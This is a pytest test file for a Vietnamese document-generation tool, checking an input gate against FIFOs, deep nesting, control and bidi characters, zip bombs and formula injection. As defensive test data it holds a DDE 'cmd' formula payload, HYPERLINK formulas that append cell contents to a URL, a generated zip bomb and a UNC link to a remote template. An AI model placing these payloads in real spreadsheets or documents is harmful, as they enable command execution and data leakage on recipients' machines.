"""The one gate for untrusted input (issue 13, points 4–7, 9–11, 15): FIFOs, nesting, zip versions, control
characters in registries and data tables, formulas in workbooks and CSV, package limits in `collect` and
`--template`, external attached templates, .docm."""

from __future__ import annotations

import csv
import io
import os
import shutil
import zipfile
from pathlib import Path

import openpyxl
import pytest

from vanban import gate, ooxml
from vanban.copies.data import load_table
from vanban.registry import load_registry
from clirun import run
from conftest import DIRECTIVES, ROOT

SPEC = DIRECTIVES / "003-thai-binh-bluezone.yaml"
EXAMPLE = ROOT / "examples" / "tung-noi-nhan" / "002-long-an-tung-huyen.yaml"
DATA = ROOT / "examples" / "tung-noi-nhan" / "so-lieu-huyen.csv"
FORMS = ROOT / "tests" / "fixtures" / "forms" / "bao-cao-xa.yaml"


def codes(text: str) -> list[str]:
    return [word.rstrip(":") for word in text.split() if word.startswith("VB") and word.rstrip(":")[2:].isdigit()]


# --------------------------------------------------------------------------- regular files only (point 15)


@pytest.fixture
def fifo(tmp_path):
    path = tmp_path / "vao.yaml"
    os.mkfifo(path)
    return path


def test_read_input_refuses_a_fifo_without_blocking_and_limits_size(tmp_path, fifo):
    with pytest.raises(gate.InputRefused) as caught:
        gate.read_input(fifo, 100, code="VB106")
    assert caught.value.code == "VB115"
    big = tmp_path / "big.yaml"
    big.write_bytes(b"x" * 101)
    with pytest.raises(gate.InputRefused) as caught:
        gate.read_input(big, 100, code="VB106", size_code="VB105")
    assert caught.value.code == "VB105"
    with pytest.raises(gate.InputRefused) as caught:
        gate.read_input(tmp_path, 100, code="VB106")
    assert caught.value.code == "VB115"
    with pytest.raises(gate.InputRefused) as caught:
        gate.read_input(tmp_path / "none.yaml", 100, code="VB106")
    assert caught.value.code == "VB106" and "không tìm thấy" in caught.value.message
    assert gate.read_input(big, 101, code="VB106") == b"x" * 101


def test_fifo_as_spec_registry_data_table_template_or_returned_form_never_blocks(tmp_path, fifo):
    for args in (("check", fifo), ("text", fifo), ("build", fifo, "-o", tmp_path / "o"),
                 ("diff", fifo, SPEC), ("danh-ba", "kiem-tra", fifo),
                 ("build", SPEC, "--template", fifo, "-o", tmp_path / "o"),
                 ("build", EXAMPLE, "--tung-noi-nhan", "--danh-ba", fifo, "-o", tmp_path / "o"),
                 ("build", EXAMPLE, "--tung-noi-nhan", "--so-lieu", fifo, "-o", tmp_path / "o"),
                 ("collect", FORMS, fifo, "-o", tmp_path / "o")):
        result = run(*args)
        assert result.returncode in (1, 2), (args, result.stderr)
        assert "Traceback" not in result.stderr
    assert "VB115" in run("check", fifo).stdout
    assert "VB115" in run("danh-ba", "kiem-tra", fifo).stdout + run("danh-ba", "kiem-tra", fifo).stderr


def test_a_docm_is_named_as_such_not_as_a_bad_yaml(tmp_path):
    docm = tmp_path / "thu.docm"
    docm.write_bytes(b"PK\x03\x04 not yaml")
    result = run("check", docm)
    assert result.returncode == 1 and "VB116" in result.stdout and "UTF-8" not in result.stdout
    result = run("text", docm)
    assert result.returncode == 1 and "VB116" in result.stderr


# --------------------------------------------------------------------------- nesting (point 7)


def test_deep_flow_nesting_is_a_coded_error_and_the_good_files_are_still_checked(tmp_path):
    shutil.copy(SPEC, tmp_path / "tot.yaml")
    (tmp_path / "sau.yaml").write_text("loai: cong_van\nnoi_dung: " + "[" * 25_000 + "\n", encoding="utf-8")
    result = run("check", tmp_path)
    assert result.returncode == 1, result.stderr
    assert "sau.yaml:2:" in result.stdout and "VB105" in result.stdout
    assert result.stdout.strip().endswith("2 tệp: 1 lỗi, 0 cảnh báo") or "2 tệp" in result.stdout


def test_deep_nesting_in_a_registry_is_a_coded_error(tmp_path):
    path = tmp_path / "danh-ba.yaml"
    path.write_text("danh_ba: x\nnoi_nhan: " + "[" * 25_000 + "\n", encoding="utf-8")
    _registry, diags = load_registry(path)
    assert [d.code for d in diags.errors] == ["VB105"]


# --------------------------------------------------------------------------- zip version (point 11)


def _zip_version(data: bytes, version: int) -> bytes:
    """The package with every central-directory entry claiming "version needed to extract" ``version``."""
    out = bytearray(data)
    at = 0
    while True:
        at = out.find(b"PK\x01\x02", at)
        if at < 0:
            return bytes(out)
        out[at + 6:at + 8] = version.to_bytes(2, "little")
        at += 4


def test_a_zip_of_a_later_version_is_a_coded_error_and_the_folder_is_still_checked(tmp_path):
    good = run("build", SPEC, "-o", tmp_path / "o")
    assert good.returncode == 0
    data = (tmp_path / "o" / f"{SPEC.stem}.docx").read_bytes()
    (tmp_path / "a.docx").write_bytes(_zip_version(data, 64))
    (tmp_path / "b.docx").write_bytes(data)
    with pytest.raises(ooxml.PackageError) as caught:
        ooxml.open_package(_zip_version(data, 64))
    assert caught.value.code == "VB701"
    result = run("check", tmp_path / "a.docx", tmp_path / "b.docx")
    assert result.returncode == 1 and "a.docx: lỗi VB701" in result.stdout
    assert "2 tệp" in result.stdout


# --------------------------------------------------------------------------- control characters (point 6)


@pytest.mark.parametrize("char, code", [("\x01", "VB107"), ("\u202e", "VB109")])
def test_control_and_bidi_characters_in_a_data_table_are_refused_with_the_cell(tmp_path, char, code):
    rows = DATA.read_text(encoding="utf-8").splitlines()
    rows[2] = rows[2].replace("thị xã", f"thị xã{char}")
    table = tmp_path / "so-lieu.csv"
    table.write_text("\n".join(rows) + "\n", encoding="utf-8")
    loaded, diags = load_table(table)
    assert loaded is None
    assert [(d.code, str(d.position)) for d in diags.errors] == [(code, f"{table}:3:2")]
    out = tmp_path / "o"
    result = run("build", EXAMPLE, "--tung-noi-nhan", "--so-lieu", table, "-o", out)
    assert result.returncode == 1 and code in result.stderr
    assert not (out / EXAMPLE.stem).exists()


def test_control_characters_in_an_xlsx_data_table_are_refused(tmp_path):
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(["ma", "dia_ban"])
    ws.append(["la-ubnd-tp-tan-an", "Tân\u202eAn"])
    path = tmp_path / "so-lieu.xlsx"
    wb.save(path)
    _loaded, diags = load_table(path)
    assert [(d.code, str(d.position)) for d in diags.errors] == [("VB109", f"{path}[Sheet!B2]")]


@pytest.mark.parametrize("raw, code", [("\x01", "VB107"), ("\\x01", "VB107"), ("\u202e", "VB109"),
                                       ("\\u202E", "VB109")])
def test_control_and_bidi_characters_in_a_registry_are_refused(tmp_path, raw, code):
    path = tmp_path / "danh-ba.yaml"
    path.write_text(f'danh_ba: x\nnoi_nhan:\n  a-b:\n    ten: "Ủy ban{raw} nhân dân"\n', encoding="utf-8")
    _registry, diags = load_registry(path)
    assert [d.code for d in diags.errors] == [code]
    assert diags.errors[0].position.line == 4
    result = run("danh-ba", "kiem-tra", path)
    assert result.returncode == 1 and code in result.stdout + result.stderr


# --------------------------------------------------------------------------- formulas (points 4, 5)


def test_neutralise_csv_and_set_text():
    assert [gate.neutralise_csv(v) for v in ("=1+2", "+cmd|x", "-2", "@SUM(A1)", "\tx", "\rx", "UBND", "")] == [
        "'=1+2", "'+cmd|x", "'-2", "'@SUM(A1)", "'\tx", "'\rx", "UBND", ""]
    wb = openpyxl.Workbook()
    cell = wb.active["A1"]
    gate.set_text(cell, "=cmd|' /C calc'!A0")
    assert cell.data_type == "s" and cell.quotePrefix


def test_registry_names_and_emails_never_become_formulas_in_the_manifest(tmp_path):
    registry = tmp_path / "danh-ba.yaml"
    registry.write_text(
        "danh_ba: x\nnoi_nhan:\n"
        "  a-mot:\n    ten: '=HYPERLINK(\"http://x.vn/?\"&A1,\"bấm\")'\n    email: a@x.vn\n"
        "  a-hai:\n    ten: Ủy ban nhân dân xã Hai\n    email: '=1+2@x.vn'\n", encoding="utf-8")
    _registry, diags = load_registry(registry)
    assert [(d.code, d.path) for d in diags.errors] == [("VB614", "noi_nhan.a-hai.email")]
    registry.write_text(registry.read_text(encoding="utf-8").replace("'=1+2@x.vn'", "hai@x.vn"), encoding="utf-8")
    spec = tmp_path / "thu.yaml"
    spec.write_text(SPEC.read_text(encoding="utf-8").split("kinh_gui:")[0]
                    + "kinh_gui: ['@a-mot', '@a-hai']\n" + "noi_dung:" + SPEC.read_text(encoding="utf-8")
                    .split("noi_dung:", 1)[1], encoding="utf-8")
    result = run("build", spec, "--tung-noi-nhan", "--danh-ba", registry, "-o", tmp_path / "o", "--force")
    assert result.returncode == 0, result.stderr
    rows = list(csv.reader(io.StringIO((tmp_path / "o" / "thu" / "manifest.csv").read_text(encoding="utf-8"))))
    names = {row[1]: row[2] for row in rows[1:]}
    assert names["a-mot"] == "'=HYPERLINK(\"http://x.vn/?\"&A1,\"bấm\")"
    assert not any(cell.startswith(gate.FORMULA_STARTS) for row in rows for cell in row)


def test_collect_summary_holds_typed_formulas_only_as_text(tmp_path):
    out = tmp_path / "o"
    assert run("build", FORMS, "-o", out, "--forms", "xlsx", "-q").returncode == 0
    returned = tmp_path / "tra-ve"
    returned.mkdir()
    wb = openpyxl.load_workbook(out / "bao-cao-xa-bieu-mau" / "xa-so-01.xlsx")
    ws = wb["Phụ lục"]
    ws["C14"], ws["D14"], ws["G14"], ws["H14"] = 10, 5, 100, 20
    gate.set_text(ws["J14"], '=HYPERLINK("http://x.vn/?x="&C9,"bấm")')
    ws["J14"].quotePrefix = False
    wb.save(returned / "=1+2.xlsx")
    result = run("collect", FORMS, returned, "-o", tmp_path / "th")
    assert "Traceback" not in result.stderr
    summary = openpyxl.load_workbook(tmp_path / "th" / "bao-cao-xa-tong-hop.xlsx")
    texts = [(c.value, c.data_type) for s in summary.worksheets for row in s.iter_rows() for c in row
             if isinstance(c.value, str) and ("HYPERLINK" in c.value or "=1+2" in c.value)]
    assert texts and all(kind == "s" for _value, kind in texts), texts
    formulas = [c.value for s in summary.worksheets for row in s.iter_rows() for c in row if c.data_type == "f"]
    assert formulas and all(f.startswith(("=SUBTOTAL(9,", "=IF(")) for f in formulas), formulas  # vanban's own only


def test_spec_text_starting_with_an_equals_sign_stays_text_in_the_form_workbook(tmp_path):
    text = FORMS.read_text(encoding="utf-8")
    spec = tmp_path / "bao-cao-xa.yaml"
    spec.write_text(text.replace("gồm cả khu dân cư mới", "=1+2"), encoding="utf-8")
    assert "=1+2" in spec.read_text(encoding="utf-8")
    assert run("build", spec, "-o", tmp_path, "--forms", "xlsx", "-q").returncode == 0
    wb = openpyxl.load_workbook(tmp_path / "bao-cao-xa.xlsx")
    cells = [c for s in wb.worksheets for row in s.iter_rows() for c in row if c.value == "=1+2"]
    assert cells and all(c.data_type == "s" for c in cells)
    assert any(c.data_type == "f" for s in wb.worksheets for row in s.iter_rows() for c in row)  # ours stay


# --------------------------------------------------------------------------- package limits (points 9, 10)


def _bomb(main: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", "<Types/>")
        z.writestr(main, b"<a>" + b" " * (20 * 1024 * 1024) + b"</a>")
    return out.getvalue()


def test_collect_applies_the_package_limits_to_docx_and_xlsx(tmp_path):
    folder = tmp_path / "tra-ve"
    folder.mkdir()
    (folder / "a.docx").write_bytes(_bomb("word/document.xml"))
    (folder / "b.xlsx").write_bytes(_bomb("xl/workbook.xml"))
    result = run("collect", FORMS, folder, "-o", tmp_path / "o")
    assert "Traceback" not in result.stderr
    report = result.stdout + result.stderr
    assert "a.docx: lỗi VB901" in report and "b.xlsx: lỗi VB901" in report


def _with_attached_template(data: bytes, target: str) -> bytes:
    members = dict(ooxml.package_members(data))
    rels = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.'
            'openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="'
            f'{ooxml.ATTACHED_TEMPLATE}" Target="{target}" TargetMode="External"/></Relationships>')
    members["word/_rels/settings.xml.rels"] = rels.encode()
    settings = members["word/settings.xml"].decode()
    at = settings.index(">", settings.index("<w:settings")) + 1
    settings = settings[:at] + '<w:attachedTemplate r:id="rId9"/>' + settings[at:]
    if "xmlns:r=" not in settings[:at]:
        settings = settings.replace("<w:settings ", '<w:settings xmlns:r="http://schemas.openxmlformats.org/'
                                    'officeDocument/2006/relationships" ', 1)
    members["word/settings.xml"] = settings.encode()
    return ooxml.write_package(members.items())


def test_external_attached_template_is_stripped_with_a_warning_and_reported_by_check(tmp_path):
    template = tmp_path / "mau.docx"
    shipped = (ROOT / "vanban" / "templates" / "nd30.docx").read_bytes()
    template.write_bytes(_with_attached_template(shipped, "\\\\may-chu\\mau\\x.dotm"))
    assert run("check", template).stdout.count("VB705") == 1
    result = run("build", SPEC, "--template", template, "-o", tmp_path / "o")
    assert result.returncode == 0, result.stderr
    assert "VB705" in result.stderr and "may-chu" in result.stderr
    letter = ooxml.open_package((tmp_path / "o" / f"{SPEC.stem}.docx").read_bytes())
    assert ooxml.external_template_links(letter) == []
    assert b"may-chu" not in (tmp_path / "o" / f"{SPEC.stem}.docx").read_bytes()


def test_template_bomb_is_refused_before_python_docx_inflates_it(tmp_path):
    template = tmp_path / "mau.docx"
    template.write_bytes(_bomb("word/document.xml"))
    result = run("build", SPEC, "--template", template, "-o", tmp_path / "o")
    assert result.returncode in (1, 2) and "VB112" in result.stderr and "Traceback" not in result.stderr
